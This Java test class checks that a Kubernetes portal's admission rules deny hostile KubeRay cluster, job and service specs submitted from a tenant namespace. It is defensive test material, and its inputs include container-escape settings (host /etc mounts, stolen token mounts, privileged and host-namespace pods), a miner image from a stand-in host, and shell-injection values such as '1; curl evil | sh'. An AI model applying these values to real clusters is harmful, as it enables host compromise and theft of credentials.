package dev.rayport.backend.kubernetes;

import static dev.rayport.backend.kubernetes.HostileNamespace.assertDenied;
import static org.assertj.core.api.Assertions.assertThatThrownBy;
import static org.junit.jupiter.params.provider.Arguments.arguments;

import java.util.List;
import java.util.Map;
import java.util.stream.Stream;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.Arguments;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.MethodSource;

/**
 * Clusters, jobs and services without the portal's walls are refused to anyone in a tenant's
 * namespace, even to an administrator.
 */
@OnTestBed
class HostileClustersTests {

  private static HostileNamespace hostile;

  @BeforeAll
  static void install() {
    hostile = HostileNamespace.of(HostileClustersTests.class);
  }

  @AfterAll
  static void leaveNothing() {
    hostile.close();
  }

  static Stream<Arguments> clusters() {
    String head = "spec.headGroupSpec.";
    String pod = head + "template.spec.";
    String container = pod + "containers[0].";
    String worker = "spec.workerGroupSpecs[0].";
    List<Map<String, Object>> nodeFiles =
        List.of(Map.of("name", "etc", "hostPath", Map.of("path", "/etc")));
    List<Map<String, Object>> foreignToken =
        List.of(
            Map.of(
                "name",
                "mine",
                "projected",
                Map.of(
                    "sources", List.of(Map.of("serviceAccountToken", Map.of("path", "token"))))));
    List<Map<String, Object>> stolen = List.of(Map.of("name", "api-token", "mountPath", "/stolen"));
    Map<String, Object> other =
        Map.of("name", "other", "image", "evil.example/ml/miner:1", "command", List.of("mine"));
    return Stream.of(
        arguments("spec.authOptions", "-", "asks for a token"),
        arguments("spec.authOptions.mode", "disabled", "asks for a token"),
        arguments(container + "image", "evil.example/ml/ray:1", "Images start with"),
        arguments(pod + "initContainers", List.of(other), "Images start with"),
        arguments("spec.autoscalerOptions.image", "evil/ray:1", "Images start with"),
        arguments(pod + "volumes", nodeFiles, "nothing of the node's own"),
        arguments(worker + "template.spec.volumes", nodeFiles, "nothing of the node's own"),
        arguments(worker + "template.spec.volumes", foreignToken, "nothing of the node's own"),
        arguments(container + "volumeMounts", stolen, "the autoscaler's alone"),
        arguments(
            pod + "volumes",
            List.of(Map.of("name", "s", "secret", Map.of("secretName", "a-01234-token"))),
            "not for programs"),
        arguments(
            container + "envFrom",
            List.of(Map.of("secretRef", Map.of("name", "a-01234-token"))),
            "not for programs"),
        arguments(
            container + "env",
            List.of(
                Map.of(
                    "name",
                    "T",
                    "valueFrom",
                    Map.of("secretKeyRef", Map.of("name", "a-01234-token", "key", "auth_token")))),
            "not for programs"),
        arguments(pod + "hostNetwork", true, "do not share"),
        arguments(pod + "hostPID", true, "do not share"),
        arguments(pod + "hostIPC", true, "do not share"),
        arguments(pod + "shareProcessNamespace", true, "do not share"),
        arguments(pod + "nodeName", "node1", "do not share"),
        arguments(container + "securityContext.privileged", true, "not privileged"),
        arguments(
            container + "ports",
            List.of(Map.of("containerPort", 80, "hostPort", 80)),
            "no port of the node"),
        arguments(pod + "serviceAccountName", "default", "account of the cluster's name"),
        arguments(
            worker + "template.spec.serviceAccountName", "another", "account of the cluster's"),
        arguments(worker + "template.spec.automountServiceAccountToken", true, "not given"),
        arguments(head + "enableIngress", true, "no ingress"),
        arguments(
            head + "headService", Map.of("spec", Map.of("type", "NodePort")), "KubeRay's own"),
        arguments(head + "serviceType", "LoadBalancer", "KubeRay's own"),
        arguments("spec.headServiceAnnotations", Map.of("lb", "internet"), "KubeRay's own"),
        arguments(
            "metadata.annotations", Map.of("ray.io/overwrite-container-cmd", "true"), "starts Ray"),
        arguments(
            head + "template.metadata.annotations",
            Map.of("ray.io/overwrite-container-cmd", "true"),
            "starts Ray"),
        arguments(
            worker + "template.metadata.labels", Map.of("ray.io/cluster", "theirs"), "KubeRay's"),
        arguments("spec.managedBy", "kueue.x-k8s.io/multikueue", "cares for the cluster"),
        arguments(
            head + "rayStartParams", Map.of("num-cpus", "1; curl evil | sh"), "Options of ray"),
        arguments(head + "rayStartParams", Map.of("num-cpus", "$(id)"), "Options of ray start"),
        arguments(worker + "maxReplicas", 1001, "at most 1000"),
        arguments(worker + "maxReplicas", "-", "at most 1000"));
  }

  @ParameterizedTest(name = "{0}: {1}")
  @MethodSource("clusters")
  void aClusterWithoutItsWallsIsDenied(String path, Object value, String why) {
    assertThatThrownBy(() -> hostile.apply(path, value)).satisfies(e -> assertDenied(e, why));
  }

  @ParameterizedTest
  @CsvSource({"RayJob, spec.rayClusterSpec", "RayService, spec.rayClusterConfig"})
  void aJobOrServiceHasNoOtherClusters(String kind, String at) {
    Map<String, Object> cluster = hostile.cluster();
    Trees.set(cluster, "spec.authOptions", "-");
    Map<String, Object> wanted = hostile.cluster();
    wanted.put("kind", kind);
    wanted.remove("spec");
    Trees.set(wanted, at, cluster.get("spec"));

    assertThatThrownBy(() -> hostile.create(wanted))
        .satisfies(e -> assertDenied(e, "asks for a token"));
  }
}
